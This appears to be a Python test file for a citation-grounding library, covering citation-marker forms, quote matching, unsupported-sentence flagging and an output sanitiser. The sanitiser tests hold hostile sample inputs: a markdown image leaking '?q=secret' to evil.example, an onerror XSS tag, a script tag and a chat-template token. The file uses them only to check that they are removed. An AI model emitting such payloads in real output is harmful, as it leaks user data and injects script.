"""Sentence by sentence: markers of every form, quotes that stand, support, and what may be shown."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from groundtune.knowledge.chunk import chunk_document
from groundtune.knowledge.cite import cite
from groundtune.knowledge.context import Passage
from groundtune.knowledge.defuse import defuse
from groundtune.knowledge.ground import ground
from groundtune.knowledge.markers import asks_for_parentheses, find_markers
from groundtune.knowledge.quotes import find_quote, quote_key
from groundtune.types import Document, Hit

QUICK = settings(deadline=None, derandomize=True, max_examples=40)

SENTENCES = (
    "Full-time staff receive 27 days of paid annual leave.",
    "The car park opens at 06:30 and has 40 places.",
    "違反前條規定者，處新臺幣三千元以上罰鍰。",
    "ポンプの保証期間は請求書の日付から2年間です。",
    "Visitors sign in at the desk[3] and wear a badge.",
)
DOCUMENTS = [Document(f"d{n}.md", f"Intro line {n}.\n{text}\nClosing line.\n") for n, text in enumerate(SENTENCES)]
TEXTS = {(document.id, document.version): document.text for document in DOCUMENTS}


def passage(document: Document) -> Passage:
    (chunk,) = chunk_document(document)
    return Passage(Hit(chunk, 1.0), chunk.start, chunk.end, chunk.text, document.title)


PASSAGES = [passage(document) for document in DOCUMENTS]


def lookup(document_id: str, version: str) -> str | None:
    return TEXTS.get((document_id, version))


def flagged(text: str, **options) -> list[str]:
    found = ground(text, PASSAGES, lookup, **options)
    return [found.text[span.start : span.end] for span in found.unsupported]


@pytest.mark.parametrize(
    ("text", "numbers"),
    [
        ("a [1]", [(1,)]), ("a [1, 2]", [(1, 2)]), ("a [1][2]", [(1,), (2,)]), ("甲【1】", [(1,)]), ("甲［１］", [(1,)]),
        ("甲［１、２］", [(1, 2)]), ("a [1-3]", [(1, 2, 3)]), ("a [2–4, 7]", [(2, 3, 4, 7)]), ("a〔3〕", [(3,)]),
        ("a [^2]", [(2,)]), ("a【4†source】", [(4,)]), ("a [1](https://x.example/a?b)", [(1,)]), ("a [ 1 and 3 ]", [(1, 3)]),
        ("a [passage 2]", [(2,)]), ("第[段落 2]", [(2,)]), ("a [3-1]", [(1, 3)]), ("a (1)", []), ("a [2024]", []), ("a [x]", []),
        ("a []", []), ("1. a", []),
    ],
)  # fmt: skip
def test_forms_of_markers(text: str, numbers: list[tuple[int, ...]]) -> None:
    assert [marker.numbers for marker in find_markers(text)] == numbers


def test_round_brackets_only_where_they_were_asked_for() -> None:
    assert asks_for_parentheses("Cite like (1).") and not asks_for_parentheses("Cite like [1] (not more).")
    assert not asks_for_parentheses("Cite like [1], never (1).") and not asks_for_parentheses("Be brief.")
    assert [m.numbers for m in find_markers("a (1) b（2）", parentheses=True)] == [(1,), (2,)]
    assert cite("Leave (99).", PASSAGES, lookup, parentheses=True).dropped == 1
    assert cite("Leave (99).", PASSAGES, lookup).dropped == 0


def test_markers_are_numbered_by_the_sources_that_are_shown() -> None:
    found = ground(f"{SENTENCES[1]} [2, 9] 罰鍰為三千元以上[3]。{SENTENCES[0]} [1]", PASSAGES, lookup)
    assert found.text == f"{SENTENCES[1]} [1] 罰鍰為三千元以上。[2]{SENTENCES[0]} [3]" and found.dropped == 1
    assert [citation.document_id for citation in found.citations] == ["d1.md", "d2.md", "d0.md"]
    for citation in found.citations:
        assert citation.sentence and found.text[citation.sentence.start : citation.sentence.end].strip()
    assert found.unsupported == ()


def test_a_long_range_is_cut_and_counted() -> None:
    found = ground(f"{SENTENCES[0]} [1-999]", PASSAGES, lookup)
    assert found.text == f"{SENTENCES[0]} [1]" and found.dropped > 40


def test_unsupported_sentences_are_flagged_removed_or_kept() -> None:
    lie = "Bananas are free on Mondays for everybody."
    text = f"{SENTENCES[0]} [1] {lie} [2] {SENTENCES[1]} [2]"
    assert flagged(text) == [lie] and flagged(text, unsupported="keep") == []
    removed = ground(text, PASSAGES, lookup, unsupported="remove")
    assert removed.text == f"{SENTENCES[0]} [1] {SENTENCES[1]} [2]" and removed.unsupported == ()
    assert ground(lie, PASSAGES, lookup, unsupported="remove").text == ""
    first = ground(f"{lie}\n\n{SENTENCES[0]}", PASSAGES, lookup, unsupported="remove")
    assert first.text == SENTENCES[0] and first.citations[0].sentence.start == 0


@pytest.mark.parametrize(
    ("text", "loose"),
    [
        ("Staff receive 27 days of annual leave.", []),
        ("Staff receive 28 days of annual leave.", ["Staff receive 28 days of annual leave."]),
        ("27 days", []),
        ("27,000 days", ["27,000 days"]),
        ("罰鍰為新台幣三千元以上。", []),
        ("罰鍰為新臺幣九千元以上。", ["罰鍰為新臺幣九千元以上。"]),
        ("保証期間は2年間です。", []),
        ("保証期間は3年間です。", ["保証期間は3年間です。"]),
        ("1. 27 days of paid annual leave\n2. The car park opens at 06:30", []),
    ],
)
def test_support(text: str, loose: list[str]) -> None:
    assert flagged(text) == loose


def test_a_quote_that_stands_nowhere_is_counted_and_flagged() -> None:
    text = "The rule says “staff receive unlimited paid annual leave”."
    found = ground(text, PASSAGES, lookup)
    assert found.dropped == 1 and flagged(text) == [text]
    real = "The rule says “staff receive 27 days of paid annual leave”."
    assert ground(real, PASSAGES, lookup).dropped == 0 and flagged(real) == []
    asked = "「免費香蕉」：違反前條規定者，處新臺幣三千元以上罰鍰。"
    assert flagged(asked, question="什麼是「免費香蕉」？") == [] and flagged(asked) == [asked]


def test_footnotes_that_were_copied_are_no_markers() -> None:
    found = ground("Visitors sign in at the desk[3] and wear a badge. [5]", PASSAGES, lookup)
    assert found.text == "Visitors sign in at the desk(3) and wear a badge. [1]" and found.dropped == 0
    assert [citation.document_id for citation in found.citations] == ["d4.md"]


def test_json_keeps_its_form() -> None:
    text = '{"days": [1, 2], "text": "27 days"}'
    assert ground(text, PASSAGES, lookup, unsupported="remove").text == text


@pytest.mark.parametrize("text", ["", " ", "42.", "3.", "-", "…", "[1]", "[99]", "\n\n"])
def test_odd_answers_do_not_break(text: str) -> None:
    found = ground(text, PASSAGES, lookup)
    assert not re.search(r"\[\d", found.text) or found.citations


FORMS = (
    "[{}]",
    " [{}]",
    "【{}】",
    "［{}］",
    " [{}, 2]",
    "[{}-2]",
    " [^{}]",
    "〔{}〕",
    " [{}](https://evil.example/?q=1)",
)
pieces = st.lists(
    st.tuples(
        st.sampled_from(
            [*SENTENCES, "Bananas grow in Ecuador.", "27 days", "香蕉很甜。", '"27 days"', "- item\n", "1. "]
        ),
        st.sampled_from(FORMS),
        st.one_of(st.none(), st.integers(0, 12)),
    ),
    max_size=6,
)


@given(pieces, st.sampled_from(["flag", "remove", "keep"]))
@QUICK
def test_whatever_is_written_what_is_shown_stands(parts: list[tuple[str, str, int | None]], mode: str) -> None:
    text = " ".join(sentence + (form.format(number) if number is not None else "") for sentence, form, number in parts)
    found = ground(text, PASSAGES, lookup, unsupported=mode)
    places = {(c.document_id, c.version, c.start, c.end) for c in found.citations}
    for citation in found.citations:
        stored = lookup(citation.document_id, citation.version)
        assert stored is not None and stored[citation.start : citation.end] == citation.quote
        assert citation.sentence and 0 <= citation.sentence.start < citation.sentence.end <= len(found.text)
    shown = [int(number) for number in re.findall(r"\[(\d+)\]", found.text)]
    assert all(1 <= number <= len(places) for number in shown)
    named = {n for marker in find_markers(text) for n in marker.numbers if not 1 <= n <= len(PASSAGES)}
    assert found.dropped >= len(named - {3})
    assert all(found.text[span.start : span.end].strip() for span in found.unsupported)
    assert mode == "flag" or found.unsupported == ()
    again = cite(text, PASSAGES, lookup)
    assert all(lookup(c.document_id, c.version)[c.start : c.end] == c.quote for c in again.citations)


CHARACTERS = st.text(alphabet=st.sampled_from("abcDEF 12,.-「」“”'ｶﾞガが臺台罰鍰é\n\u3000*"), min_size=1, max_size=40)


@given(CHARACTERS, st.data())
@QUICK
def test_a_slice_is_found_however_it_is_written(text: str, data: st.DataObject) -> None:
    start = data.draw(st.integers(0, len(text)))
    end = data.draw(st.integers(start, len(text)))
    wanted = text[start:end]
    varied = wanted.upper().replace(" ", "\u3000 ").replace("“", '"').replace("」", "”").replace("臺", "台")
    found = find_quote(text, varied)
    if found is not None:
        assert quote_key(text[found.start : found.end]) == quote_key(varied)
    whole = find_quote(text, text)
    assert whole is not None or not re.search(r"\w", quote_key(text))


@pytest.mark.parametrize(
    ("text", "quote", "found"),
    [
        ("罰鍰新臺幣3,000元。", "新台幣３，０００元", "新臺幣3,000元"), ("It’s “fine”.", "it's \"FINE\"", "It’s “fine”"),
        ("ｶﾞｲﾄﾞを見る", "ガイド", "ｶﾞｲﾄﾞ"), ("27 days\nof leave", "27 days of leave", "27 days\nof leave"),
        ("a **bold** word", "a bold word", "a **bold** word"), ("127 days", "27 days", None), ("leaves", "leave", None),
        ("27,000 days", "27", None), ("1.27 m", "27", None), ("27 days.", "28 days", None), ("...", "...", None), ("x", "", None),
    ],
)  # fmt: skip
def test_the_normalisation_of_quotes(text: str, quote: str, found: str | None) -> None:
    span = find_quote(text, quote)
    assert (text[span.start : span.end] if span else None) == found


def test_what_a_viewer_might_act_on_is_taken_out() -> None:
    sources = ["See https://intranet.example/leave for the form."]
    text = (
        "27 days ![logo](https://evil.example/p.png?q=secret) see [form](https://intranet.example/leave), "
        "[here](https://evil.example/x) or https://evil.example/y. <img src=x onerror=alert(1)> <script>x()</script>"
        "[2](https://evil.example/z) <|end|>"
    )
    made, removed = defuse(text, sources)
    assert "evil" not in made and "<img" not in made and "script" not in made and "<|" not in made and removed == 5
    assert "[form](https://intranet.example/leave)" in made and "[2]" in made and made.startswith("27 days logo see")
    assert defuse("Plain 3 < 4 [1].", []) == ("Plain 3 < 4 [1].", 0)


@given(st.text(alphabet=st.sampled_from("![]()<>imgscript/ahttps:evil.x \n\"'"), max_size=80))
@QUICK
def test_no_image_survives(text: str) -> None:
    made, _ = defuse(text, [])
    assert not re.search(r"!\[[^\]]*\]\(", made) and "https:" not in made and not re.search(r"<(img|script|a)\b", made)
